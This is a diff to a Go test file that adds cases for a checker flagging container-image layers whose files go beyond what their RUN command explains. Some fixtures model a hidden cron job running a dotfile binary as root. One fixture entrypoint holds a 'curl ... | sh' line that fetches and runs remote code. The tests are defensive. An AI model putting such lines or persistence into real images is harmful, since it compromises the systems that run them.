@@ -74,6 +74,22 @@ func TestCheckLayers(t *testing.T) {
 			Files: []imagebuild.File{imagebuild.Reg("entry.sh", "x\n")}}, ""},
 		{"RUN that installs packages", imagebuild.Layer{CreatedBy: "/bin/sh -c apt-get install -y curl",
 			Files: []imagebuild.File{imagebuild.Reg("usr/bin/curl", "\x7fELF")}}, ""},
+		{"RUN install of one file", imagebuild.Layer{CreatedBy: "RUN /bin/sh -c install -m 0755 /tmp/sync /usr/local/bin/.sync # buildkit",
+			Files: []imagebuild.File{imagebuild.Dir("usr/local"), imagebuild.Dir("usr/local/bin"), imagebuild.Reg("usr/local/bin/.sync", "#!/bin/sh\n").WithMode(0o755)}}, ""},
+		{"RUN install of one file that also brought a cron job", imagebuild.Layer{CreatedBy: "RUN /bin/sh -c install -m 0755 /tmp/sync /usr/local/bin/.sync # buildkit",
+			Files: []imagebuild.File{imagebuild.Dir("usr/local"), imagebuild.Dir("usr/local/bin"), imagebuild.Reg("usr/local/bin/.sync", "#!/bin/sh\n").WithMode(0o755),
+				imagebuild.Dir("etc/cron.d"), imagebuild.Reg("etc/cron.d/apt-sync", "*/5 * * * * root /usr/local/bin/.sync\n")}},
+			"RUN install places files only at /usr/local/bin/.sync, yet layer 1 also brought /etc/cron.d/apt-sync"},
+		{"RUN mkdir, cp into a directory and chmod", imagebuild.Layer{CreatedBy: "/bin/sh -c mkdir -p /opt/app && cp -r /src/app /opt/app && chmod -R 0755 /opt/app && rm -rf /tmp/build.log",
+			Files: []imagebuild.File{imagebuild.Dir("opt"), imagebuild.Dir("opt/app"), imagebuild.Reg("opt/app/a.py", "a"), imagebuild.Reg("opt/app/b.py", "b"), imagebuild.Whiteout("tmp/build.log")}}, ""},
+		{"RUN cp -t that also wrote the entrypoint", imagebuild.Layer{CreatedBy: "/bin/sh -c cp -t /usr/bin /src/tool",
+			Files: []imagebuild.File{imagebuild.Reg("usr/bin/tool", "\x7fELF"), imagebuild.Reg("entry.sh", "#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n")}}, "also brought /entry.sh"},
+		{"RUN install -d and mv", imagebuild.Layer{CreatedBy: "/bin/sh -c install -d -m 0700 /data && mv /tmp/build.log /data/",
+			Files: []imagebuild.File{imagebuild.Dir("data"), imagebuild.Reg("data/build.log", "log\n"), imagebuild.Whiteout("tmp/build.log")}}, ""},
+		{"RUN cp to a relative destination", imagebuild.Layer{CreatedBy: "/bin/sh -c cp tool bin/",
+			Files: []imagebuild.File{imagebuild.Reg("usr/bin/tool", "\x7fELF"), imagebuild.Reg("etc/x", "x")}}, ""},
+		{"RUN cp with a glob", imagebuild.Layer{CreatedBy: "/bin/sh -c cp /src/*.so /usr/lib/",
+			Files: []imagebuild.File{imagebuild.Dir("usr/lib"), imagebuild.Reg("usr/lib/a.so", "\x7fELF"), imagebuild.Reg("etc/x", "x")}}, ""},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
